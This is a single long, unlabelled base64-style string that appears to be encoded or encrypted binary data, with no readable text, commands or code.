sgZlnTJ2K75Fn2w44ojHd+AkE1keeOdzP+O2aciuEgnBnz4kEWNOlxm1AmkU4fYB2oaLSmsAgYNkePoEFXK8rVaNlQ/qs6u57HRtkrNurkl3qfOhVdfZSeiZ1028a28GbV6ASoWK+HwFjQT8rzgA2BxT+rT+zHg7y/aKZSXo5fawBj9y3UX1g+zY+ThmVzuyfvIojE9ESYeVHQBeDk8aQBlGkT1xEiWVQA77VRwUg4d1moiQvgD5dFoX9yuXGGozaPd0wXluzvm1LPwH6OlDsZPvDMelalOUZE/YTMwXC15t/BIwE5t1zKoK53oGgdeZqxGK3IvEJ9qVO5QULOv1T3o2NGHNZumEPEnz/WmHZ8qE8g17KJvtprhRVL8NaRyp73WMs6Dn3toWu9MqltA/ZZxEBaj3bThAFiC9hYsR4Xx5UKEFHlPeOS8vA+nT0Nb8Tt/Ikqc8hjJCR/qDXdKOGtY6Iyd2n9AoyEA+F1JHK/1R36imqIv8jNM6btoaqsqLREH2x7XjH4lPCbHup/eU7HfHWwK5ijYslrhK+bfY0gPiUVdV9LhNZ11t0+qA5u0mxP8OpI6yQssJEuWHcBwKLQWhnb2s6aLHsEUbDchNfN47o+2sPrMkyrRjq8/mGi9cprcwksL2QEO2Rbsi+hCmQOtw81t3oTedaYIe01N2Yx8ya/vSGdTkt7rI36+7bT8lo5RhOQLYO7hXHYpTO2PSscE3kdZQr+Mtdt3qjizOmsAHhuoTy/Yrz5LlRHT2Oyn4PI7t1iKlLMpFMhJwwfP5uMds7xu9qF+ERBB6aXbv0pvEror6dGB30PrWpt0JdZSh46aIuGdmx1hPqtWGQQ6A9Yg4oxa0u/SxSgaZq9AvPWg/dtM2OT504/WTxFnUQYzAl9VybIOFyGEqfLDVvP8EyHQdfZ3fCRB26XOVx2F/9dixLV4uRmu5JiwC4TGs87pjtqdN7yzrGRUu11jHa6hIWdyhMZ6cFVuRVfKMAQrR3ANigp0eKdq3kA2WP8y+mUuwkBLxc101jsP9VYxgu20BzbNTq3So1ZtYW7iIvY17qDZXPRfQIaydx2TLhJA362tjSlee3a6EPe7j19V7PS/vMpnlRaImlCmX3bMmpB9Mrow9vUlwj9V8EL6OrpNnZnWXMT7lUtQXmslPwnlB/YSmbD8M/256NqopKYyagG8kMvpL8RFO4oktEawZP/HC3IpRKd1aHPXLHS/A5XnZq4tDVfDb30MvtvZL7M2oCexI9teGc90BkjXgZjhHhtGGxWUyiveFlUAYkLKPk0qUari46kebk1gQui5eUwPBN55QO9EbbseYUCHEe+PIqedYhCBwu1qJiz0px4xqcVqV+VpgZAY2cYkCmkgC7oWEMYZgUAd0AqwF/pfg48tCxxX08Pd7ur/aQzn9KKStokJciA8S2Ejl0+PHY7nFFwANdv2na++mB6jWO446BwmG0lgXDpPPsZQsDPFRW/3hGuksdwzg9YOH5XRIncJVPMJ/CcYLOLl0nDEfxIJvzyr5x8sySmckljSFSREypB08BcEJoipTPYv7Lg6tN9l9c/Hxwk9p5P7QgD3EqA2YBUy1fR8Q/HtIp4draLZvZtsXAo3BTN/5ZhI0PH+hFmrPwYzzzNuD+8bWxaHAJzeN9lLnKSFryP6DAaQRrrlLgvhbhCDvDVvkuvLG4uKClm/PALf163KZnYJdbl78ogrQlyCxSNBzf9IA6xfl/WUunAy91PNgec61M/cj+yVvz4KEbf0F3gIhUS1pUlZYvqZha6WycdGcz20Rv31ZyNaJwRCCAKjmpNIXTlnsigfu158L5a/b5BxY4TOOrofQ0gIycdPhjke1fCxZALjjGJq+UV21PyZuj4g7a4BuDTXzog4XkbtOfwuAccYahZIubAfd+bt3mB6EkZCwLLRED6ALCp7bd/TdDQiFtaRTldx1/tyia0z0X+FOA7FibQCmPxfAJ/nioKM4bdFEG+z2tKZV/aH2JPbnvI2Jcmx7Es7Y6nnvrrqjjp1CkfZDGl5bUeEImbQOZDjZs7ulkowZ4ZLHnSFi/zouX9QzK4RDPddwQBANZ929rXfwjHNBZWELZNEg4qg66H8YFiCqVXq2AnDzFKjnUJ2Yp+GhwHr32tMd27VqLDt+T/YzMwUHiCjZy8eicd5hNj+o+EdUw/7XX2looXKHlNc4W5EbcupOpO6ga22wbY8cYMiCH4kobSoXgjfVQfmEUE0gJc+WkDTtMAX83o0PKa3HkBCr8Sp7pqKwsGVXJzhCNTCl/b0cHmwCnKzVPVr+MIznOiFmD7LJg5TYUt6eSNWrVNr+G1epxy7gq5GMpDv4WOVf3H2tK2GxnVHuVVX4tgvDlKT3jXMMVINp+fZ1D+pUFiN3iI2yenSo9ciDZ9F44C/cmt7uhvvcTYg0b3UXK2OeX5QXUSwNZtI5PvMP+D2dd92L/0wiaP0yC+WAYnq7SfFb3k999N4lJjGVQ1yhHLTTzSywyWd3AhtGmVdNdi6cTRjTItBQibHRWy9pZgaWhiWUch4HLKy7JoDHZI0yWOAyQrTYgsondyJ+Y8QYMHSmVbfeBId41VKYWlFRaVCvbPEKDihMD6igAb4B/fkTunbRxp6f1jXixvMno+SXoiWqHFXkZiVgrp9hbumzwLY0HEm6ZddWiMB2jsRs8L7BfSEwolQAkDZ4wNIh/R96Zd8qWVUfMMz7ZVx3sIfIc4vKl2tHiq7a1lKVQXz++NyYH7DBbBdUBUkqUhs71UO/z7ZviL5OrtB7kudE4WBVu2IGrR1GfAx2EmURyetXTHhMXumi4Tj71NHWaZ/8WxZ/ToP+yRWvzorVqeg7HRyc4bDJj97J8xl0yD5PrceIW4IWueaTpoaLSxBNnC1uC3VlOX3yIOxJwPjn8iNBxElgWKISq76A72eal/vuT0Sywf0EK/CQvGYw5Dx2bNuVSOrDJoV5hQkWAI2puy7gvaByNQjueEeN2sedvS1KyH2W7ufAiNbK4+GG11zvUEPvH7oo0dTeRZuvB3UdnVxeLwR+8tXqdBbpO3sBrP+nlDEHlnFExhkTDJWDSfUFowNskX0Hj/9zr7d/fm6YWlvRWFziDM/R0Wo9mjO3it6dwkXVlCuPwZkS1qSHUYftvIeeOidQwreRKAXALvBPRfd5F2j2a2/Aixd7gniOkVfws2n6GrFr5hb2vNyOn+gZbIo56A9IdlvufNioBtZYl/HT+IvnT9PWNe8+1yL4NiHSDkbOJ9kLck2/2CWp5UBef8riF/7NMCqy3wYSGDaiskPBXKX06v1nXmDZBw+7sg/n6OSz87Hb06Z3YpSxENkSXuvBpbtuTA5P+IfefmCbgrfIkKtUlB//RB35EwlAPg6rv+516BHdXZ/E74DUSaAX3G0wcFdXC8lYPMOC7NBWIVROHyGmj1uKfou6j9o0pmfYkXOAYOHzbfTglEKMjCUeMXhQOEQLbxNQjzvSRkJn3MM9ZIERZOAgQKM40aWsLgSehLkYYDOmdu3S8LwPoEptyIXsHPiNVyLNMuGY46fiQarPL/cC6ihiMvq/PsQNcwsYUN37qMqXJTuMty/T3K1fmoOfrmsiDmeI+TQG3YIZNo8hf9ZZGRqx4lv1ei++BdbJj0tS//g4lr6fnjoIhMtuDB9A9Ja0L2wm0xKPvHWXO1wIra/GOPXD7x7kANdagZLQXqA2DMCAJpfbiDzgBguUZS1SrK+wReH4XbFHREwzLyU1bSrtIFHNfZ5wTL/++SCOiQR/+NXwOecTN8B7/DQF2npN/FFODreJciRHCCZ9oSBKKzquQDoF8NqrgIoMaaIMjOaD0ZBHvPR5GyEWhYUycVCHoFl5zRLdMMYtzvL4dpbRt/R64EKZwYkjERk13NDMpC8j2HzSKR5kA53XdESps+N+HGCkx9cKrVK7ZiCrdjDo+7J3pXV9e5Kh9s8rXkATw/HRhyKDfmSx66eLc2qFbvt2Vk9FRDbMZlmbqaub2xmcMaOiBkCfoqqJ7v2JsSqB8Ittvo/xVaLAtNHOCIjbgp/ZtXCq5FpUpG3yIeHfjqPOgkR7D1mVQ+vmoZOm2pLWxEQzTB1LAhHqPhvnSjKCZvPyeZR2CFTsZ0HgD+prPTJ5BxbUkf4P6FIoaeTNNvJzAMl7X4XPXivclD9xoWX/M0Uf+4XeN1QLjJ/ZDgAbrjEt/BmgW7VBqS7Gkrnht04/iVnywdP6//E810JbbphBq6LBVZB4luqi2zeQGH/6QwHsbAE5pmh+kinwaMLQea0+iJ0NpHbj80N5bZhiRwqg99s0m0poP0iDiTARe1DgREBLk7wYx0B8bTqwyehDF0Zehxu4HCqBLR/WlFy5Apvt2DclHhq7fLuTrlvqxtNX6Le9fE5Y9m3yMJ6at3SWr2UYfDR62VspxKqE/p3eTDuLKIfcOinBhnoX1SDII7+DEWAS4shFc//fIGsOXKFSZ5+b5GG9I7p5hUVXa2kWUe+nWwVdXZNN+Dm6SBTghgFNgsps3I15fO9bgbtft8jT3CY6wfqWHsdwp+S5qmONFqakNftEJIxZIX1cgS/J7cPobV0xLcJOgXRqGB/0pQuuCcQKPPB5UbkkTxFz0MfwoE8ZV/FKj7bWZq/OTAjMWPU0O7oECY0q2yqOF8B0IkDGYP27PTYwfd0rrDRWGKh+FSX10c9oVjceUzFdfvpSEUpoKhwoWD+56hMDrTsLWgmIa6Ut9qFYIg+lNz/PltXs8NRpcA6LE+9pWsqPAsJaB9bEXI3Uzd+Oh+n70xMcc8ZQVMwfE2cIADnXGSe6rJWPmes4OlfJoaWexsgA1G2r6fCls53w86nenjvCSoh3OEPkSajFM0ZCoG1pEcu5kiLkJqPvJugDiEhVnxg/h0Mh7+Qf7ihHdDATn2miSVVm4Qkn8Vo2+nUpZKdMF76cZYRAHLMEFIdBlOPLfYPLHE0tlb5PR9mHB1g0UUy1ziMAKuNsa5d+S/jOPPeK5hfLHD0zeOU6JW2iUKSzqP6yd5GnMN4KYk5JbHYMyDixsCQoIDPWpDBN2n2OmDCJRxTJD8jWARLNHBcut+hy1/W/WrjShRohQ6ITHvkBl5n41lnOAnJ7cpYCSvaYh9+WXRSqjzzXfw318FrrhXnjaw7OCKqdi6Ulz/be1zCUr980yxRnbQpoBTnJCUJv84mlQCj8bQrc37rp3rmlIfgZQXM9xodqXR2rSjcEnvF4Np2FRJ4EHUwrodTvx1sSFQuNIgEDoJPyj8Iu3aaEStQZnF/XbbY/A145EXRhPCGUzzOd9m3DMDTmWnvg3qv6ewZ/OncbT+xYpyU0X2ASVp1ELYfH3Qzp3iAIBSknYJOKkpidJZsqSHaz0UbmguEp7kUdBDHYEQFpxLlEvSTAVLRIZG6BsatC9KeTRul3bAacfhFT/CXEtTGszQemia8Dw+ccPG7d81H5/kq8CesDJBdoz16U4I0/S/+qbZhGfGAlQMkOt9ZXXneW2TcMIMxjSp22SyuLY76UpoNSP1Yl68BSAWVFJGI2mEe3KZ1t76Eq3VuvwNRZu3n3ih3Furvb6BBtNI07zDB4cnnh9QQqr17p4qnRrJB0kSSHsv4junDENzVR5IiW/q3VaLQ+m6Dr8ipQgQeKUJQcMu8qooTGBbcNFjk75GIy4SPRS+aTM5HPyHn4LR37trRtLvi4cWhR4jJkTxEF4AdrHmgJ6t1myebDAPouWEEICasm6/tywq8gR6lfVgQzhK69NEqtu426zifGxnWiZIu+3KkVFfOjaXsXXSO6GVuXKRJGpmaij59BLO3MTfC3YXVmPESIb2neiWy5NST8EGyWnKI6Lm1AV2Un0XkKdWlBIEgn8F3A2jVdvtxh+AwO9LlpXUUTk5vHJOlX0VTeU2SENfeFeNKKYOmkQaQPtG6G3PMc9RpQlNrmnWtMeJ0t6n7knilwW1R/SkoEpYkreK2CawrgnIdlnelIvMMx/c2dME7xLywUI6SzRKFts86XjOCzRp/dZgUf0SEYQYr654V6bzjCiDQ4LlqJA+uK1Zn1+heySbnF6HNNdX1teH0I5g9J9/8lsd9XLpF9eFJDNWQkJby1YFerJDJaR/N2bI4JPxSiuOFrK6ucktuy8snzAwy8aBlDHTtFhNI66ZYyxRxEacQB/R1FpDpubRwsUsT7URSkC80i4CjaOnyksLmITAHwWxK34kFnCvnfCTCceHg7paF6s6q7bpZlK1nF4++YqhSLr3LAC8e16L2eo4eyNr507ckCBslujO7rH/1lwPWjQwbBYdVtLJRwDS1+mYtAFAEoKHPmeqpXf9m5z3ZTCWMdTVymbOEPPdH7/xtAlLch21tfmjJiQlTjX0Zpp25tm9LS/qLEQ/zgXV0PRF6zLvmVoYTfaaWZi1E3SDGSsm5elUZHdwtaua8eWPL5bQN+6d6RehPLQCdh3FUQipErJvjH+1MXXux37y/5mRPlRGTn7yUMaPocDn990dbKBrJPHeimjRwzfYay3zxIaSAvnJA+LfHiZke+NuUoAEbB4fm0VfdVbHkJHVYdrl6jv9Ro/PmE4XjEZGUVIsr1DA7Aqnmvh0qgzOOTKEBAuMdkYFcaMqQVgc8NIHbV/iA4EzwF9QxQ56W5JVQgy5AgzlL7lk3IlA6H8Z6et5q+1SbpiJuFfgNU+eT14Q4zmOfQv5vol6KaJm+1qtlns+z6Edo5F7E1q2WALI4FE4bJb3laNCRtjA/PA2vjjfjaB8L6SmBULMgKvy8uYHCQl2mv7Yz62ITPJ9dExqwtyzqoq56lXV0nkPld5yY48c4BMLDpdiGrrd0sekLyzmBoeb6861hGFL9j/3XucnT57EI03Mucb4fyUXIcgiNsmkOPfkOxBc9+leLE9FdPUEFDlILrdzJE85VntnNWvG5Y2Y7+ODb4AANEWmieskXQiakWfZ7BxWCRL//PdZSYRAtdwUbA4O6BOTHt1tomfUCT/XaA/5QLc8RAzFqvrYoLoc7/T8PUBrP+jovo4vNA5fOd1ekm4x5MJZfzSv/6B6T7mgfRvBIXCRu1OfpxqclE9N4xKRqx1zKOvBgENADVGJVLkwVwKeVv5lKiZdTcYhEtvVPj6O/DqGgRsNvN3WERiQCJVnO1QLZEZeOnGvqbeENDIWdkobo5j9IS7xvO68nFcvs6tbdihtQqSwSiphNgp/FkIKGiDHTrKBO6eXoeBl6ruUTQ2MbBe8A8XlNHT1tBBPb9XL0IGBWINERwTSaBRR7ElxUjpzvkVLNYHa06UMHoNINxd62J5gIR/qO+aMZIChNkwHuZoeGcJK10HPMC0DttnCDRGruGOothboEoimlYzPfPR50LDO4vAbt+mTC0rts/u/fOOynlRcPTvxuNEcJBevBOfNK58kceSk8/X/SVURh2nsPxhb449feZM4KK5xE5X7X0fhQ2nroYefruXeb8n41r52CwIBFXDXA43+yGQAK7enHGWZXw0q21CarEGFqsOaphgm1ZQ0cHa6SMoSHN8cE6xny8rAy1cMMqW0jRcqW+vGw74zVbvX38jRgSJVsF8c+yvCuSOV0PmalKhfSAG43QWahJtE1lknC0D+3+MQKeHMqXXkovWAoRELqQ6LDh6ZrwVzyhFRr5A+ppRvsrN0GKXapIgtP5jQVRSpyL9gYAMF/TPwMMRdE2cQJxcGZi/4Ucx6JObZUy9efMOBM/NXXceKiZrErfwGTIWm35ZT/jkf4zEH68GVfrF11w8pvmjDlWAaE5LO9RqD6RDWXLzN1W9V79NmSfZdpMIRwIPRoiEHaEjwoqiAjlvelJ/Pq21r0xwNDVy624Xgb5Rc4PA/FowpqwJthe2xu2UYMGw3rioe6NO4YvBHTsSP4VFvUKjjH20mhWFkftt8PhxEm0qwVeRNlWB19lKrrmwZUuWEYTM8bdMKcs2RAD4nOcuqZhXaNUCZLDXlOK7JxeIMnZjifhyTGvMsJgt6nBtNmkm3JfLtGGsvJ8UbpKoQqk50UpFhQ5Fq0+veUemyHOmTptj2+r70ZanT40Ks0TygYH8ygXtpeOtK3nzVB8FZsa961IZ7VYYJ/lPP4TMVUSJ9W/9fhC4/QDk0cUXNs2pniuGC9NMtkxtzDxE4asq6NSVLyFe1ye5Dn72O3OlVTRWM72WrGgmWUrffRrOBtP8bVVlMm2qMkFPlkFKPKeIjNZArED1UWCoL6QLyKevTVfSG5KAg/EFB8yUijvsTz5ItECPwqyOa4ibpoD0OzpvPMSF4Mnz7TVzrG/snXM0ihD0mnXKr4nTcilb5B5ALksrgMyk3ruZlvvrEKZ/7HsqudG2QST5xDo7kYfNuedsF6dhzhjpzRloaqDIduQBrjXBK007bCwmtkP8fuAMGcy19w1ElELklvgSnuTDseU8lI9HsO8KrxwcU9H2sBtlkF0sL/oRH7n1h1HieqV1903kZQlXu1122XfUt5Ag/YXeVj28zvSBLAywpotgg8QkoxNML5/D2J6hVY2gvvPm3VBOoHaMx2Tc4DOjl/HD6SX8SNK40j2V1uxx9ogTAOUnfsaWZaAs4jk4GgePTZRxGGJFIzKA6wq2pHycXnjNvHiHRCy0Jk8HEPN0yXnA0BNmRkok8xC9jDogoP86DOunaPu+fE/yq3ZpfqY1J+YaB51NRvYoX6HzbBkVOTxh+49/YOwHgMndN5zGbFQhiQlzdQzAUqcXDfIJpGpgSbsOwxaozuybSvtGzQsk8vOU95AZGxtqLseYcXSU4BHik30cklKdM6rj58IBcPUn0aFyL2asgRlflQH7D4ibCrMEfs7tCx3x0ZLgNx23QC4DKVPtnEJLywiOCVj5DksdD64oGYMGsvUNcXmv91ANAueSDv++PtIecdq6ibcyL+EqWiAqXmZEbcDJYRmL3tVuur7/puyLma99ywYU1u/TKQvL6frvU0Mxayh1UjUohauUM8zThjJCFaGgELFdX4xB5zyQYM7M5DT4+mcLLBBi+VUMGwyN14d1UNYJoUUoEEA+ChXedwwQs0PKePzVb9xdeZ1TRHn5Nr0Typt7EkMm3soOcVbeFvDyCRlRwDCuyHbWTWmODuILWsRoV4K7FT0gb+GMIY7QZPB7Oa7DAymCAlCxr66f+KYYdKMh3/TBfswXMDqGFULb8IIwQ2wg3tOGieKRNrUaZmdvbUVMkQJRxY38s3bFRS5jWQmjFRtgg0k465FY3iWVJOe3vrTYTrukqsq+MF9p2tp9rN7yh1txVyzw+m1PL4KKgAbXLMzR+n3ewJfmb4HHKVa0FoBeLamegIvBYeE0sN5QkgG52zBVrZDi/Erl/DY4CTBOs9BpMfpmKw+BEkaX6TOcsFYjFFRgdJad9Hm2sKbn3xqTTIVjvfymfjehcU1Q9Cq/BE9A+yGzX3Kuzhnc8PUZi99NidRFO1TUiAptJZN+YV6r/43sAY059OhWHN/+XLMozv7o+yFIiNR7yZQuFqDsWtzVskB5dLe0QcT8jA8kwVJZUx9zIrSRKrLVSVAiZKCQpe+7ECdTlp/KYlUM+wluhjdXtN0vd2U4yK0IcQwBc6K7nCa5LkKqcHyf5JQhhHS6hS4OdhOP3pLA+Iggl1WwG0cMTfI/drqpBQwC0vMdYidPa8lkJjDsixztETf3IyLL1Y3SR/2AMDsu/PUZJ2dra8uprGtKi9TBnWxCeFBwfY7bz9m39Pgzx2xBL8QMQSFB9Fsprti5f04Ryxh6/idnLfnuw8fUcvtrLqdipyLPDmfIHMkgkpVqIv/GZ8xag/IcUbG+1B1qxXe5HX4AOJzQSednkRpnZK0139S3h2Vk+xQf4dsSBAPlWX3oZtWDb7txC27XUe1pi2XD5OzFScn75wz/p9Y4SclGsXMK+y3pK7GkquiF8wAbwN2L47QxOlC8NKX/ddpbWCwFoX/1IL+Ox0lXnqsp23wpf+NMEwXD5VeXMFr/zSPOoO0ao5kn0Dnm2QkKbJSbXr05OK7DmHe0hHoHljXaYse8TSL4PxJlaESxolnzCw/QQXOJEwXKddJ0vjJ1KURTmc+Szu80ox05nBXOiZTx4QSyNCv8Y5XP/1FhjltnrqBsTyFqLB1Cemy9t4TXBEsEuMr3SGpW1uiqa0ttP1rjSkYQj0MfI2BBDcMHygb+I2RncmJG7v5kMMvVxhR/P8w8yoZNFTPC1mfWfyJ+JJmZhMYZUsju+nyUVmvHtT4v14gIdMN+BiwBacgchuEh/6PiQxfV5olHKmiNKR2ZRHnLw/9J4YOPkfhFcWyjFWJKtocrNyjgfP0toYndN+Sa5Jwcp39DQHvzh4fC68EGwk9SbzjjPTa63qXUsXV8mdo97yh31sB0a+GcL6AliCYkwEW1K7byuNWDmEUTuetndtlsmarpY2cgvJMX7sS7kRqXDc5q6P7eMGZB2slymne5D6wq1HJPTN8BoUAfDv7v5bXcZf0lX8PZQ+FCAgsxrx9gyDpg1zEmTT7TgScF3Po/Q8WBvX97elmlMR1pPpOPsRuUfCVggSg4nblEdkqzgn4Ziaa2J5r/d9HP7FNMpI3Ytkud/F/5vlJz5voAbgL0ZvQtTtapC7PmX+RMxhb7CwizMBhO0rtfzGWb16S7jbc5Sz77OK6BBav2aPrsqM3VE9j2kZvjtlBWQdLKNqUD8RxXztJryzRS+2XcjXi6907xH8qep7YCHpCh/L2bBirSyhVnnQqFSnkDUVBqUG5jp7ABvwIIh6l5vB8IKUMLKjAtANh/hoThH1tBxFPSzIHqGejcl7uFGYwlqvJV+TobWBeHA+VNc5YAe/Qwpf5n4OD62egcCz7oKtvpAqXgMcLuG4xVR8dRB3s4Z0uE4lBF7O1NGwx24Jtqfq+azAMuANjnN3rD716+NrDyQG9tQrWKl8YUGbtp0OCN+b3mD7InEreV6krhVNo7q616+s06BVzFKGhw3Hl6MaSZHg+LfQA5o1DXsjAMvwHfswVKHwAxlFgo58obt9jXJORkoO4banzCR8r2aYHYDVD8+qEKBhthgaI9HlonwLPfxjEfVFAoe3pg1CnXI2oKnPL0eP2w3e6v2hSK/+G+y2MI0PPEKSqZsdmMEtRtvNEFS4JHpt6ryPGf0V/LOsvekVh85BwgwoG8plRT6eRZIBBtf78F9+cyW4UbxMGqz49O04MXRAsA3oWi+myUGP9bpD4QBfVfIKRCAcP6G/3eD2Y3Daca8I71I6rXjK4P2qIw06u8F9IEPx5+hnUjdUKtwnIdUz+xoZfy8LiEg/s8S1ABRD+Z0g2in+dlT85ElgCD+vlFsNhHJeNsgY52taMIR6xZ0bcRJQyhehxzHqmh0XvnItPGRHK4DNzjVAaPEnbJ6F4cIxJrAZboDAbmukN+Rs/xlWZOOl8S7tBv7V3SOeZlABHqoCn4SHkJLk19QoIqIhcxGdVwYOwl3z3ubKUBXiwPqU2LCxBR8Iz8zelonSq1UksaxL6rbYmNJSsMhpFO0vI0TkpKTBnRw6ObWEQFqaV2Vk92bkPQtmiR1t0s/L/iXmx9EiXhg0+6oKCSJTi4U0jeG2n9afNSg8phevKvGdYVB1DoAYevmrukmuEt49sZEd0AZggAP26qMlt3DcXfFaQCKPJw2A8hlvC4MeO2QsUe4/FSMzFYE8c9ZOf+LjuEJgTVIOgSGSCD/uCvp5sg04P5zXYpWZ0zKt8LX6S1XwGUuUdI0ljpSDq7OXby/1adgZHmfgfBaVWPiTjXS0zG8g69eTIoTc6Zrqyf5yp2MJW3YmulVEhlHN2Nn4mDjURu1n64vgRHwRqXryg7DuPfPHdJ8Bh4hfBcL1npDl8hESRvl/kHUyfxWty2AvcfIA9pr/5RaTVu72wWwqxQLvXEvm8e3/sfYpJCU2pQ+3oeqXGoliM/YacwKM9c0bVYNCnyirWwHdx0FOk4/pTwJ+HIt4zxKYStolcgFocJxPAKNKQZsF2of22yk38PPcoJaF+xd82hN2KOmBBixNs3Z+N9F19H05L4BwNAswHKUpRhSZDh5lSlKJ+5xUCXwQ72QCjlxWI7HPuC0ApFIsxdM2cVhqvEmyhAD12NR2+sqwExQ5pSu/1CaxIaMgtBz43M+M+BpH7swaTo6cJc00/YBK7FWYgXD30TgGiOsdaOr0Gl09+nBZB7yjXxnjDGzqtUW0KBe+lf3XDS+XJym+HKKsOhQ2aBqQ3poKgZ+exPJpFG5ll/TxghEX+7Mt4lo1tsrCuydXFWxoo4xSnqzv79kQFdyP+Ah6+V9dROZzcYDTFrmbrEIUJ2Ot6/fq0SWmQATh3EMIgv65mKymP6oLff7FeNGcpbrTZIRQgdklQ7GpqOjcXtotiKmLvOVK7m43+rXEkEM3dMs3b5Dl1C2hs7RoOOeYlCKqhsyK/2h9KNbEOGlw6Gjg6ob0kzbVIFYdkvzTiJGijrhfTVBSpa6jF41xXVgdb3IeXehHAWf+3kD8WEOmlNJmkZcL0sqpKmokqM05ZSGByyHeRzmu6JP4XuCfmKmlQKliK4LWfDsInUeUT9QCm9ZDBBx07VnTn3+NHhruWa+CKa3YpAXAHMJoWKIH/Jmy4RfFs+YBsLnk4diQ5KU4Qn9eKrvhUv3h5rSBh77HVyN/OVkpyh2cJOqr6vnr45nouaIMYYRLa5+A9IOFG5Bd4tEDMMAjeeejw+TD8KGO9mXy/NO6zm1+nEpHN0xAnL9ekfVnot9iaNrgexCced1zWdhO75cz0nqf4o0XpA4m3hxxCprXCw8rwbQktOXE2aALWi87f8FDlrYesxnQANxi3Z37V4Ht17ZoVcOzU+fU52BldmWbjt8slIjmzdIBJAgnCINeF9558NQC8+62vs9T8s6mvyuIXd0IqlJpOO8T5O/jSSbAkSkfP7Yugobw/ilzbVXBJ5tM/vjT4tuH3/oHFuJnsC7MVncvqU4LF8aoovlx7NHv7Vt/USHOM062p0HxtoDKQMqxiACQnTKeIiG5/S8RoE4xnzBgfR0clX5DWB/VjgSK54tqnuoRaDN6oS2yFh7ovo5S257A13ufo0mw7XnVBD/QtCSVDtlEUAyXAh5+P3UnShNUcohWB8I1zpw8PepdGLuc/FL3ektFtRHK7lrMy03wN8UUEApNXM7kX9Npe/esiejBLdSu133bpO/xAbA60OBMh64Xk2hO5rNEPpScJ5GNJ2j4k+1tzHjPIxWVhfpsTsd6GoAPsVcYgNAzBIeYj0mW11EKd2agGh58QJ2d41yA//IrLyIeY+Ky9rAyI3o1a8d2JjlsMc3SB41xJ7Ku5+rAxnhLekdk5GfwIubOrC6F11o+XqyD1nOJfw6JNC6iWX9dyT/6+vn4FIyobufSP0yMLiB5AsLTiOOkds7WkWAud6DtT91pAAeZt1LFrvarsLVhD0XCyooshUGoUAQ7tdZz4/3OIPv+I7/j1wQz8bmh1t5HyxZKrLQt61krV2tCfgSYZAdbtlUO2+WRfNmaiEtHjfgDo9ig/QNLyzZ9IT2wiQZu9CqD9RBOPcv9RfZ2ThRpnXLb0ez6n6i/ojrcXUi4RHox7p6RXheXMH+hEtIRBGvWxL5Tc8WLjtERkM7Qop/6F8dKQZT0P2U86tn/viysFY7XzPR10X5vRHIt/4qrHWb0rMCtsqlktpek4ec6fWUIueWXhvuDg+w3iJK2ENlom/R8ZXnozlbWg6SphxPzTGbmiXFFD7wU0sw5ro7iVWWO1OS/Xg5rurXz9R9sbKjplJWOnCxxM+Cn5URzhCAkGbxUlWjHxYPCcNeEvn9rso3aXErXl5nVIk5nK46+kViMMmq4iErikfc98mQWiBXAKn7i0/cCVyYBUmxBmi3SinVJRN6PgjAZ5oSY/PGFdGKs6ddF0mr1+Lp7ZYbR5GOoWZp2Hk69+QlA71MoqdcRnxSE5wXbivHNJYmsePK2m01ex7zjIm8OVzrsduq3ZvkzqVLFT8dbCTHabVMPaO24++BrT6nfvmzvKPq6wTKqNFSKXH8VPrYg/ESqrbGPQSrmKSjvQioMX4lSW/Ba73XHHVFvNX5+ujpNIHPYtWN+BsR4O3lRWynU4twfyo/D7BfgHJARVWn+JL6eloCGdh2BXGYkpNp0Ecg9VgU4dX0i+p1DJdDLWqFnUYeSuwWHfTQ+qdcI//2/3v93aAaty6Y4v/vg4crTmA7uhqZvhKCujhy4QpDFUijmVbA+xyOpnppDci3altgvF923cS4a9d4a5ND03knfTWXh0B/3feZoE7AR6S7zfShZg7gvAgcQro8YNjNuBfpOlOS7111C4J7G7vMmyQ+ZjDPrc++TEAxYtTZ49KA1OwdAiAn5muxnAgR1ZVZtvQ7Z0574x9IO4h8g5cVcNb/Pw6xjoO6SfX8jEM08fhxWTW4JSmb6rpta8F0k9k07F729wK0hijuAq8aoyh2FlpDq+pgtr8XBs5GLDECaPNOMxuWyxb543VgE//UdLr669oRnGvDImTylTLKgiPqphFWS9l+jA6xjR38v8NFrkIZjtSQUgBgZyLlwAhgxtjrTbyksadZVgmGCPsZPay904wUzuBTTwi8B9wgv6zdm84Vf/WB6hNHmCpmh6dcQFcGqsMjlu15sbZJ9srJrvD2dM9ulLuqehD3ag/uEK8eXA97ZT+nKHCjJXaOYbBRnGRvLnm6PIw+8PmJVRpXZ5qVamQttt2QrstJYbsp65/LfsWE2I9wPKwr2fBBapOWTqJhRnaJOMTiu+InWg3bvI1Mee0qIlW0s0gMV76AyQOF+TFXYrcm6yeNOmi0jkv+fIrFSWqYKRdC/FaUHrzdGn7c7Fuo5lTy2XJRRjRQhpY7yBp11eB6V+nCRcy4gonh0oi70CwCfhLAezChQ2q4IjjlYVimchdx32oLF+GMIRke2DajR9Yj3IzdY9PLY9O06Vyuetla8r4YvlSNKATCCkXHZsJgM/v/bfmbDDdbSr23Wz/lK0LcHUM42wEnRUqGJgFUNLIj0m674xP9vQo7+Vrr0Q0GqS3c+G+2IvakAGM1JOprxC9o8HoKQEbbv5QO5hJpiZfX6sD8uHMDCehYmu0IsWd//ifolNPM6qCWS4Xd8UZsQrBEiSirHSffpS7Y2SHmDtuN9eZkmIdb7GnKIXQg5k604BOBFnE250TxDRaxUy71x0UX6EWp6a+6ZrIXLxX5O2wdoNTXTMFnneUTEKUibfkqb/tinCgXQoTH0n9K8z5w+OrMXRkPZysZsQSm0WZvDUyAP23x2ldh/tIqY5B/EPOI3a/XUFWyiSARsnWn21omR/sS0b306K8orU+DfRCrTBiLagVFSwcejBlyg4SRECJbk9NNQ4juoIHy3LAGsfD6XQjcleop1JvZsw8fDs94E6ob5kFwMWuM+judt9RJU8vTHjVeox5LEc0L3PQKF8GRirdZ4C+lpZv3HsNGgo7rDeduR7TnZjR5KtrzPKGuGDZ9M302ILcZrXMso15BK7AwKCsoXFKbEcbqISvvIVWzQFipPoNNpavbGnSoeQzrtz442wFjS8zp5x8L3fEHow0TnlYLO6oyE3M3xlVWzuduRoIoo83pYkOh6FKuaJXlKLrOItl3B9YekpaH4u1bLhA0PelaqwxrF13eowXnkWX9XKv1WicUTwjleDbaXIl20tp+pWbKPmPjBKx2POk1cDqpcfD3mW0oZyuW60J0fr9haZpaceD0NzGT7JSAfPEXyAgIgjo4ifKBA8zjRGXlJ2gSov5TY7AvMie3c+EtiUdQxQlnTp2034fsaiVwbgsk4eeiIU3SVOd4c0eB3V6qcD4RMPCFyCP63p6jy96/gz0txV/qA7rJ/PQM1W4EEcMcxlPQgPpmY